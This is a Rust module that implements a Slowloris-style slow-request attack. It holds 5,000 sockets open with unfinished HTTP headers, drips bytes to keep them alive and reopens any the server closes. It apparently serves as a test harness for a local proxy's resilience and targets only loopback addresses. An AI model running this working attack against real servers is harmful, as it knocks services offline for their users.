//! The attack of that name: sockets that begin a request and never finish it, each with a byte now and then, so that none looks dead. What the
//! proxy closes is opened again, so their number stays.

use std::io::{ErrorKind, Write};
use std::net::{Ipv4Addr, TcpStream};
use std::time::{Duration, Instant};

use anyhow::Context;

use super::client::connect;

/// How many sockets.
pub const SOCKETS: usize = 5_000;

/// Each socket's time between two bytes.
const BETWEEN_BYTES: Duration = Duration::from_secs(2);

/// An attack under way; it ends when this is dropped.
pub struct Attack {
    port: u16,
    source: Ipv4Addr,
    sockets: Vec<TcpStream>,
    begin: Instant,
    sent: u32,
    /// Sockets that the proxy closed, and that were opened again.
    pub closed: u64,
}

impl Attack {
    /// Opens all sockets, in steps that a listener's backlog can take.
    ///
    /// They come from another address than the honest client, and each attack from another one, since ports wait for a while after use.
    pub fn begin(port: u16, number: u8) -> anyhow::Result<Attack> {
        let source = Ipv4Addr::new(127, 0, 9, number);
        let mut sockets = Vec::with_capacity(SOCKETS);
        for index in 0..SOCKETS {
            sockets.push(open(source, port).with_context(|| format!("only {index} slow sockets came to be"))?);
        }
        Ok(Attack {
            port,
            source,
            sockets,
            begin: Instant::now(),
            sent: 0,
            closed: 0,
        })
    }

    /// Sends the bytes that are due: to each socket in turns, evenly over the time. Never many at once, though the load may have paused.
    pub fn drip(&mut self) -> anyhow::Result<()> {
        let step = BETWEEN_BYTES / SOCKETS as u32;
        if self.begin.elapsed() > step * (self.sent + 100) {
            self.begin = Instant::now() - step * self.sent;
        }
        while self.begin + step * self.sent <= Instant::now() {
            let index = self.sent as usize % SOCKETS;
            match self.sockets[index].write_all(b"x") {
                Ok(()) => {}
                Err(error) if error.kind() == ErrorKind::WouldBlock => {}
                Err(_) => {
                    self.sockets[index] = open(self.source, self.port).context("a slow socket could not be opened again")?;
                    self.closed += 1;
                }
            }
            self.sent += 1;
        }
        Ok(())
    }
}

fn open(source: Ipv4Addr, port: u16) -> std::io::Result<TcpStream> {
    let mut stream = connect(Some(source), port)?;
    stream.set_nonblocking(true)?;
    stream.write_all(b"GET /1k HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")?;
    Ok(stream)
}
